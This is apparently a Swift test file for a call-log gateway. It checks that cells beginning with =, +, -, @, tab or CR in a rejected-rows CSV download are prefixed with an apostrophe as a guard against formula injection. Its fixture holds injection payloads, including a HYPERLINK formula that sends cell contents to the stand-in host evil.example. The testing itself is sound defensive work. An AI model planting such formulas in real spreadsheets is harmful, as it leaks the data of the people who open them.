import Foundation
import GatewayTestSupport
import Testing

/// CSV formula injection (OWASP): a call log whose rejected rows carry spreadsheet formulas comes back
/// from `rejected.csv` with every such cell prefixed by `'`, so Excel shows text instead of running it.
@Suite("Rejected-rows CSV download is formula-safe")
struct RejectedRowsFormulaTests {
    /// Fields of one CSV file: quoted fields may hold commas, quotes and line breaks.
    static func rows(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var field = ""
        var quoted = false
        var iterator = Array(text.unicodeScalars).makeIterator()
        var pending: Unicode.Scalar? = nil
        while let scalar = pending ?? iterator.next() {
            pending = nil
            if quoted {
                if scalar == "\"" {
                    if let next = iterator.next() {
                        if next == "\"" {
                            field.unicodeScalars.append("\"")
                        } else {
                            quoted = false
                            pending = next
                        }
                    } else {
                        quoted = false
                    }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                row.append(field)
                field = ""
            } else if scalar == "\r" {
                continue
            } else if scalar == "\n" {
                row.append(field)
                rows.append(row)
                row = []
                field = ""
            } else {
                field.unicodeScalars.append(scalar)
            }
        }
        if !field.isEmpty || !row.isEmpty { rows.append(row + [field]) }
        return rows
    }

    @Test("cells starting with = + - @ tab or CR are prefixed with ' in the download; the phone too (documented)")
    func neutralized() async throws {
        let downstream = try await DownstreamServer.start()
        let gateway = try await RunningGateway.start(downstream: downstream.baseURL)
        let file =
            HotlineUploadTests.header
            + #"GD101,=1+2,+8613812345678,"=HYPERLINK(""http://evil.example/?d=""&A1,""fix"")",投诉,"+SUM(1,2)",-2+3,@SUM(A1),60"#
            + "\r\n"
            + "GD102,2026-13-40 08:00,13812345678,\"\tcmd\",投诉,\"\r=1+1\",地址,ZX1,30\r\n"
        let reply = try await gateway.request(
            .post, "/v1/hotline/calls?profile=12345", body: Data(file.utf8), headers: [("Content-Type", "text/csv")])
        #expect(reply.status == 200)
        #expect((reply.json["rejected"] as? [Any])?.count == 2)
        let path = try #require(reply.json["rejected_csv"] as? String)
        let download = try await gateway.request(.get, path, headers: [])
        #expect(download.status == 200)
        let rows = Self.rows(String(decoding: download.body, as: UTF8.self))
        #expect(rows.count == 3)
        let first = try #require(rows.dropFirst().first)
        #expect(first[1] == "'=1+2")
        #expect(first[2] == "'+8613812345678")
        #expect(first[3] == #"'=HYPERLINK("http://evil.example/?d="&A1,"fix")"#)
        #expect(first[5] == "'+SUM(1,2)")
        #expect(first[6] == "'-2+3")
        #expect(first[7] == "'@SUM(A1)")
        let second = try #require(rows.last)
        #expect(second[3] == "'\tcmd")
        #expect(second[5].hasPrefix("'"))
        // Digits a spreadsheet would change are Excel's text formula, ="…": that text and nothing else.
        #expect(second[2] == #"="13812345678""#)
        for row in rows {
            for cell in row where !(cell.hasPrefix("=\"") && cell.dropFirst(2).dropLast().allSatisfy(\.isNumber)) {
                let first = cell.unicodeScalars.first
                #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first), "\(cell)")
            }
        }
        try await gateway.stop()
        await downstream.stop()
    }
}
